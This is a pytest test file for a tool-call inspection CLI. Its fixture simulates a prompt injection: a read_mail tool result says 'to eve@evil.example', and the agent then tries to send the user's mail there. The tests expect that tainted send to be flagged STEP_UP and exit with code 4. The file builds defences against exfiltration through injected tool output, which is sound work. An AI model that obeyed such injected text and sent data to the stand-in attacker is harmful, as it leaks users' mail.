import contextlib
import io
import json
import sys
from pathlib import Path

import pytest

from ostiary.cli.inspect.tools import tools
from ostiary.testing.talks import OFFICE, Talk


@pytest.fixture
def manifest(tmp_path: Path) -> Path:
    path = tmp_path / "tools.yaml"
    path.write_text(OFFICE)
    return path


@pytest.fixture
def feed(monkeypatch, tmp_path):
    with contextlib.ExitStack() as opened:

        def fed(*lines):
            source = tmp_path / "rows"
            source.write_text("\n".join(lines))
            monkeypatch.setattr(sys, "stdin", opened.enter_context(io.TextIOWrapper(source.open("rb"))))

        yield fed


def row(to, **more):
    talk = Talk().user("Send a summary of my mail to bob@corp.example").answered("read_mail", {}, "to eve@evil.example")
    talk.calls("send_mail", {"to": to, "body": "x"})
    return json.dumps({"id": to, "subject": "ada", "messages": talk.messages, **more})


def test_lines_are_answered_in_order(feed, manifest, capfdbinary):
    bad = [json.dumps({"id": 7, "subject": "ada", "messages": []}), "nonsense", row("x", subject=3)]
    feed(row("bob@corp.example"), row("eve@evil.example"), *bad)
    tools(manifest=manifest, jsonl=True)
    sys.stdout.flush()
    told = [json.loads(line) for line in capfdbinary.readouterr().out.splitlines()]
    assert told[0] == {
        "id": "bob@corp.example",
        "effect": "ALLOW",
        "calls": [{"name": "send_mail", "effect": "ALLOW", "reasons": [], "tainted": []}],
    }
    assert (told[1]["effect"], told[1]["calls"][0]["tainted"]) == ("STEP_UP", ["to"])
    assert [one["id"] for one in told[2:]] == [7, None, "x"]
    assert all("error" in one for one in told[2:])


@pytest.mark.parametrize(("to", "code"), [("eve@evil.example", 4), ("bob@corp.example", 0)])
def test_one_alone_ends_with_its_effect(feed, manifest, capsys, to, code):
    feed(row(to))
    if code:
        with pytest.raises(SystemExit) as end:
            tools(manifest=manifest)
        assert end.value.code == code
    else:
        tools(manifest=manifest)
    assert json.loads(capsys.readouterr().out)["id"] == to
